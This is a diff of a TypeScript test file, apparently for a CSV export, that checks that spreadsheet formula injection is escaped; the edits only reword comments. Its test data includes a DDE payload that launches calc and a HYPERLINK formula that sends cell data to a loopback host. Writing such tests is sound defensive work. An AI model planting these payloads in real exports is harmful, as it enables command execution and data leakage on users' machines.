@@ -10,22 +10,22 @@ import { endTableWorkers, tableFolder } from '../support/table-folder.js';
 
 endTableWorkers();
 
-/** Formulas that a spreadsheet would run: each first character, alone and full-width. */
+/** Formulas that a spreadsheet would execute: each first character, also in full width. */
 const STARTS = ['=', '+', '-', '@', '\t=', '\r=', '＝', '＋', '－', '＠'].map(
   (sign) => `${sign}SUM(A1:A9)*cmd|'/C calc'!A0`,
 );
 const RUNS = /^[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]/;
 
-/** A spreadsheet of another region parts a cell there. */
+/** Delimiters at which a spreadsheet of another region splits a cell. */
 const RUNS_BEHIND_DELIMITER = /[;\t]\s*[=@\uff1d\uff20]/;
-/** The apostrophe that is put before a formula. */
+/** The apostrophe inserted before a formula. */
 const ESCAPE = /'(?=[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20])/g;
 
-/** Numbers and phone numbers, which are unchanged. */
+/** Numbers and phone numbers, which stay unchanged. */
 const HARMLESS = ['-5', '+49 170 1234567', '-1.5', '-12,50 €', '+3 %'];
 
 const quoted = (cells: readonly string[]) => cells.map((text) => `"${text.replaceAll('"', '""')}"`).join(',');
-/** A table of payloads with keys, and payloads as column names. */
+/** Creates a table of payloads with keys, and payloads as column names. */
 const tableOf = (payloads: readonly string[]) =>
   [['id', ...payloads], ...payloads.map((text, at) => [`k${at}`, ...payloads.map(() => text)])].map(quoted).join('\n');
 
@@ -45,7 +45,7 @@ function bookCells(book: WorkBook) {
   );
 }
 
-/** Formulas from real attacks: programs, addresses, and leading hidden texts. */
+/** Formulas from real attacks: programs, addresses, and hidden leading texts. */
 const ATTACKS = [
   ...["=cmd|' /C calc'!A0", '=HYPERLINK("http://127.0.0.1:9/?"&A1,"open")', '=IMPORTXML("http://127.0.0.1:9/","//a")'],
   ...[
